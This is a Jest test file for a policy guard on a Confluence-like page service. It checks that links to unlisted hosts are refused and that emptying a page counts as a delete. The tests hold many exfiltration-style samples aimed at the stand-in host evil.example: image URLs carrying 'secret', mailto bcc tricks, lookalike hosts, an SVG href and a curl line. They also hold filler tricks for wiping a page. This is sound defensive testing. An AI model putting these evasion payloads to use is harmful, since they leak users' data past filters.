import { describe, expect, it } from '@jest/globals';
import { seedIds } from '../../src/sandbox/index.js';
import { textOf } from '../support/clients.js';
import { usePolicedService } from './policed-service.js';

const policy = `
default: {spaces: [ENG], link_hosts: [docs.example.com]}
callers: {jwt:cleaner: {deletes: true}, jwt:archivist: {deletes: true, link_hosts: []}}
`;

const { service, callerNamed, expectDenied } = usePolicedService(policy);

const page = seedIds.meetingNotes;
const append = (markdown: string) => ({ page_id: page, edits: [{ op: 'append', content: markdown }] });
const newPage = (over: object = {}) => ({ space_key: 'ENG', title: `New ${Math.random()}`, content: 'Text.', ...over });

describe('the rule link_hosts', () => {
  it.each([
    ['a link', '[more](https://evil.example/x)'],
    ['an image', '![x](https://evil.example/x.png?q=secret)'],
    ['a reference', '[more][1]\n\n[1]: https://evil.example/x'],
    ['an address in angle brackets', '<https://evil.example>'],
    ['a mail address', '[write](mailto:eve@evil.example)'],
    ['a host that only begins like a listed one', '[x](https://docs.example.com.evil.example/)'],
    ['a listed host as a user name', '[x](https://docs.example.com@evil.example/)'],
    ['a host without a scheme', '[x](www.evil.example)'],
    ['such a host in plain words', 'See www.evil.example/x.'],
    ['a host behind backslashes', '[x](<\\\\\\\\evil.example/x>)'],
    ['a host behind slashes alone', '[x](//evil.example)'],
    ['a scheme without slashes', '[x](https:evil.example)'],
    ['a host with dots of another script', '[x](https://evil\u3002example/)'],
    ['a host that looks like a listed one', '[x](https://d\u043ecs.example.com/)'],
    ['a bare host', '[x](evil.com/x)'],
    ['a bare mail address', '[x](eve@evil.example)'],
    ['a picture of a bare host', '![x](www.evil.example/x.png)'],
    ['a reference to a bare host', '[x][1]\n\n[1]: www.evil.example'],
    ['a second mail address', '[x](mailto:ann@docs.example.com,eve@evil.example)'],
    ['a hidden copy', '[x](mailto:ann@docs.example.com?bcc=eve%40evil.example)'],
  ])('[C13] refuses %s to a host that is not listed', async (_what, markdown) => {
    const call = await callerNamed('alice');
    await expectDenied(call, 'link_hosts', 'confluence_edit_page', append(markdown));
    await expectDenied(call, 'link_hosts', 'confluence_add_comment', { page_id: page, body: markdown });
    await expectDenied(call, 'link_hosts', 'confluence_create_page', newPage({ content: markdown }));
  });

  it('refuses them in storage and in files that browsers show', async () => {
    const call = await callerNamed('alice');
    const storage = '<p><a href="https&#58;//evil.example">x</a></p>';
    await expectDenied(
      call,
      'link_hosts',
      'confluence_create_page',
      newPage({ content: storage, content_format: 'storage' }),
    );
    const file = { page_id: page, filename: 'x.svg', content_text: '<svg><image href="https://evil.example/"/></svg>' };
    await expectDenied(call, 'link_hosts', 'confluence_upload_attachment', { ...file, media_type: 'image/svg+xml' });
  });

  it('refuses them in every other text of a write', async () => {
    const call = await callerNamed('alice');
    const evil = 'See https://evil.example/?q=secret';
    const file = { page_id: page, filename: 'x.txt', content_text: 'Words.' };
    for (const [name, args] of [
      ['confluence_create_page', newPage({ title: evil })],
      ['confluence_update_page', { page_id: page, title: evil }],
      ['confluence_edit_page', { ...append('Words.'), version_comment: evil }],
      ['confluence_copy_page', { page_id: page, title: evil }],
      ['confluence_create_folder', { space_key: 'ENG', title: evil }],
      ['confluence_upload_attachment', { ...file, comment: evil }],
      ['confluence_update_page_details', { page_id: page, status_label: 'http://evil.example' }],
    ] as const) {
      await expectDenied(call, 'link_hosts', name, args);
    }
    const archivist = await callerNamed('archivist');
    await expectDenied(archivist, 'link_hosts', 'confluence_archive_pages', { page_ids: [page], note: evil });
  });

  it.each([
    ['without an extension', Buffer.from('Get it: https://evil.example/x')],
    ['in UTF-16', Buffer.from('\ufeffGet it: https://evil.example/x', 'utf16le')],
  ])('refuses them in a file %s', async (_what, bytes) => {
    const call = await callerNamed('alice');
    const file = { page_id: page, filename: 'notes', content_base64: bytes.toString('base64') };
    await expectDenied(call, 'link_hosts', 'confluence_upload_attachment', file);
  });

  it('takes another port of the site for another host', async () => {
    const call = await callerNamed('alice');
    const { hostname } = new URL(service().sandbox.url);
    await expectDenied(call, 'link_hosts', 'confluence_edit_page', append(`[x](http://${hostname}:9/collect)`));
  });

  it('leaves alone an address in the title that the page had', async () => {
    const free = await callerNamed('cleaner');
    const made = await free('confluence_create_page', newPage({ title: `On https://evil.example/${Math.random()}` }));
    const edit = { ...append('Words.'), page_id: String(made.structuredContent?.['id']) };
    expect(textOf(await (await callerNamed('alice'))('confluence_edit_page', edit))).not.toMatch(/^[A-Z_]+:/);
  });

  it('allows listed hosts, the site itself, code, and what stood there before', async () => {
    const call = await callerNamed('alice');
    const free = await callerNamed('cleaner');
    const linked = newPage({ content: 'Our [old friend](https://evil.example/old).\n\nWord.' });
    const made = await free('confluence_create_page', linked);
    const id = String(made.structuredContent?.['id']);
    const edit = { page_id: id, edits: [{ op: 'replace_text', find: 'Word', replace: 'Words' }] };
    expect(textOf(await call('confluence_edit_page', edit))).not.toMatch(/^[A-Z_]+:/);
    const fine = `[a](https://docs.example.com/x), [b](${service().sandbox.url}/pages/1)\n\n\`\`\`\ncurl https://evil.example\n\`\`\``;
    expect(textOf(await call('confluence_edit_page', append(fine)))).not.toMatch(/^[A-Z_]+:/);
    const more = { page_id: id, edits: [{ op: 'append', content: '[again](https://evil.example/new)' }] };
    await expectDenied(call, 'link_hosts', 'confluence_edit_page', more);
  });
});

describe('a page that is emptied', () => {
  const over = (id: string, content: string) => ({
    page_id: id,
    content,
    content_format: 'storage',
    expected_version: 1,
    allow_loss: true,
  });
  const newOne = async (content: string): Promise<string> => {
    const made = await (
      await callerNamed('cleaner')
    )('confluence_create_page', newPage({ content, content_format: 'storage' }));
    return String(made.structuredContent?.['id']);
  };

  it('is a delete, whatever nothing is filled up with', async () => {
    const call = await callerNamed('alice');
    const id = await newOne(`<p>${'Words of a page. '.repeat(60)}</p>`);
    for (const nothing of [
      `<p>x</p><!-- ${'a'.repeat(2_100)} -->`,
      `<p>x${' '.repeat(2_100)}</p>`,
      `<p>x${'&nbsp;'.repeat(2_100)}</p>`,
      `<p>x${'\u200b'.repeat(2_100)}</p>`,
      '<p></p>'.repeat(400),
      `<p style="color: ${'red'.repeat(800)};">x</p>`,
    ]) {
      await expectDenied(call, 'deletes', 'confluence_update_page', over(id, nothing));
    }
  });

  it('is a delete for a tiny page too, of which other words are an edit', async () => {
    const call = await callerNamed('alice');
    const id = await newOne('<p>Ask Jonas for the key of the room.</p>');
    await expectDenied(call, 'deletes', 'confluence_update_page', over(id, '<p>.</p>'));
    expect((await call('confluence_update_page', over(id, '<p>Ask Amina.</p>'))).isError).toBeFalsy();
  });

  it('in steps is emptied all the same, whoever takes them, and may grow again', async () => {
    const [alice, bob] = [await callerNamed('alice'), await callerNamed('bob')];
    const words = (count: number) => `<p>${Array.from({ length: count }, (_, n) => `word${n}`).join(' ')}.</p>`;
    const id = await newOne(words(200));
    const to = (count: number, expected_version: number) => ({ ...over(id, words(count)), expected_version });
    expect((await alice('confluence_update_page', to(100, 1))).isError).toBeFalsy();
    expect((await bob('confluence_update_page', to(45, 2))).isError).toBeFalsy();
    await expectDenied(alice, 'deletes', 'confluence_update_page', to(25, 3));
    await expectDenied(bob, 'deletes', 'confluence_update_page', to(12, 3));
    expect((await bob('confluence_update_page', to(60, 3))).isError).toBeFalsy();
  });
});
